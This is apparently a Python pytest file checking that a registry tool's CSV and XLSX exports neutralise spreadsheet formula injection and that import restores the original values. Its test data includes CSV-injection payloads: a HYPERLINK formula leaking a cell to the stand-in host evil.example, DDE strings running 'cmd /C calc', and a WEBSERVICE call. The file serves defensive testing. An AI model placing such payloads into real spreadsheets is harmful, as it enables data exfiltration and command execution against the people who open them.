"""Formula injection in exported spreadsheets: `registry export --format csv|xlsx` writes every text a spreadsheet
would run as a formula with a leading quote (OWASP's CSV-injection guidance), XLSX cells as strings and never as
formulas; the importers strip the quote, so export → import gives the same names and a second export the same
bytes."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import zipfile

import pytest
from openpyxl import load_workbook

from graph_model import DEFAULT_PILLARS, parse_record
from importers import Location, Parsed, expand_paths
from importers.tabular import FORMULA_STARTS, neutralise_formula, restore_formula
from registry.export_tabular import write_csv, write_xlsx
from registry.graph import RegistryGraph
from registry.loading import Loader
from registry.store.falkordb_server import FalkorDBServer
from tests.registry.test_cli import REGISTRY

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
    "'plain quote",
    "Hệ thống một cửa =1+1 (not at the start)",
]
RECORDS = [
    {"type": "Agency", "id": "agency:tinh", "name": "=1+1 UBND tỉnh", "level": "province",
     "description": "@cmd", "tags": ["-x", "=y"]},
    *({"type": "System", "id": f"system:s{n}", "name": name} for n, name in enumerate(HOSTILE_NAMES)),
    {"type": "Dataset", "id": "dataset:d", "name": "+Dữ liệu", "personal_data": True, "record_count": 5},
    {"type": "OWNS", "from": "agency:tinh", "to": "system:s0"},
    {"type": "OWNS", "from": "agency:tinh", "to": "dataset:d"},
    {"type": "MASTERS", "from": "system:s1", "to": "dataset:d"},
    {"type": "USES", "from": "agency:tinh", "to": "system:s2", "description": "=WEBSERVICE(\"http://evil\")",
     "deployment": "@cloud"},
]


@pytest.mark.parametrize("text", HOSTILE_NAMES + ["\tTab", "\rCR", "", "'", "''", "x"])
def test_neutralising_is_undone_exactly_by_restoring(text):
    safe = neutralise_formula(text)
    assert safe[:1] not in FORMULA_STARTS or safe == ""
    assert restore_formula(safe) == text


def load(graph: RegistryGraph) -> None:
    report = Loader(graph).load_items(lambda: [Parsed(Location("test"), parse_record(raw)) for raw in RECORDS])
    assert report.ok, report.rejects


def names(graph: RegistryGraph) -> dict[str, str]:
    return {node.props["id"]: node.props["name"] for node in graph.iter_nodes()}


def test_csv_export_neutralises_every_formula_and_imports_back_the_same(graph, tmp_path):
    load(graph)
    before = names(graph)
    count = write_csv(graph, tmp_path / "first", DEFAULT_PILLARS)
    assert count == len(HOSTILE_NAMES) + 2 + 1  # nodes, and USES (the owners and master are link columns)
    cells = [cell for path in sorted((tmp_path / "first").glob("*.csv"))
             for row in csv.reader(path.open(encoding="utf-8-sig", newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS and cell]
    assert "'+cmd|' /C calc'!A0" in cells and "'=WEBSERVICE(\"http://evil\")" in cells and "'-x; =y" in cells

    graph.store.delete_all()
    graph.ensure_schema()
    report = Loader(graph).load_files(expand_paths([tmp_path / "first"]))
    assert report.ok, report.rejects
    assert names(graph) == before
    relationships = {(r.source_id, r.type, r.target_id): r.props for r in graph.iter_relationships()}
    assert relationships[("agency:tinh", "USES", "system:s2")]["description"] == "=WEBSERVICE(\"http://evil\")"
    assert ("system:s1", "MASTERS", "dataset:d") in relationships
    write_csv(graph, tmp_path / "second", DEFAULT_PILLARS)
    for first in sorted((tmp_path / "first").glob("*.csv")):
        assert (tmp_path / "second" / first.name).read_bytes() == first.read_bytes(), first.name


def test_xlsx_export_has_no_formula_and_imports_back_the_same(graph, tmp_path):
    load(graph)
    before = names(graph)
    path = tmp_path / "registry.xlsx"
    write_xlsx(graph, path, DEFAULT_PILLARS)
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            if part.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(part)), part  # no formula element at all
    workbook = load_workbook(path)
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")" in values and 5 in values

    graph.store.delete_all()
    graph.ensure_schema()
    report = Loader(graph).load_files([path])
    assert report.ok, report.rejects
    assert names(graph) == before
    assert graph.fetch_nodes(["dataset:d"])["dataset:d"].props["personal_data"] is True


def test_the_export_command_writes_each_format_and_keeps_jsonl(tmp_path):
    env = {**os.environ, "REGISTRY_STORE": "embedded", "REGISTRY_DATA_DIR": str(tmp_path / "data")}

    def run(*args: str, code: int = 0) -> subprocess.CompletedProcess[str]:
        done = subprocess.run([REGISTRY, *args], capture_output=True, text=True, env=env, cwd=tmp_path, timeout=300,
                              check=False)
        assert done.returncode == code, done.stdout + done.stderr
        return done

    source = tmp_path / "records.jsonl"
    source.write_text("".join(json.dumps(raw, ensure_ascii=False) + "\n" for raw in RECORDS), encoding="utf-8")
    try:
        run("import", str(source))
        run("export", "--format", "csv", "--out", str(tmp_path / "csv"))
        run("export", "--format", "xlsx", "--out", str(tmp_path / "registry.xlsx"))
        jsonl = run("export", "--format", "jsonl").stdout
        assert '"name":"+cmd|\' /C calc\'!A0"' in jsonl  # the native format keeps values as they are
        assert "--out is required for xlsx" in run("export", "--format", "xlsx", code=2).stderr
        assert "Unknown export format" in run("export", "--format", "ods", "--out", "x", code=2).stderr
        assert sorted(p.name for p in (tmp_path / "csv").iterdir())[0].startswith("01-")
        assert (tmp_path / "registry.xlsx").stat().st_size > 0
    finally:
        FalkorDBServer(tmp_path / "data").stop()
